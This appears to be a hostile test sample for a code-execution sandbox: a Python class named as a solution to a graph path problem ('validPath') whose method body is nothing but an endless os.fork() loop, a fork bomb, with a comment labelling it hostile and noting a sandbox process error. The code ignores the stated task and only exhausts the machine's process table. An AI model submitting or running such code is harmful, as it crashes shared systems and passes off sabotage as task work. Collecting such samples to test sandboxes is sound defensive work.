# hostile: a fork bomb (status error: no processes in the sandbox)
import os
class Solution:
    def validPath(self, n, edges, source, destination):
        while True:
            os.fork()
